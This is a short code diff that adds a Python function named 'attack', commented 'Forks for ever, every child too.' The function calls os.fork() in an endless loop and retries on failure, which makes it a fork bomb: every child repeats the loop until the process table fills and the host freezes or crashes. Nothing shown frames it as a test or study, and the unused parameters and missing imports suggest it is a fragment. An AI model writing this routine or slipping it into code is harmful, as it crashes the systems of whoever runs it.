@@ -1,0 +1,7 @@
+# Forks for ever, every child too.
+def attack(places, what):
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            time.sleep(0.001)
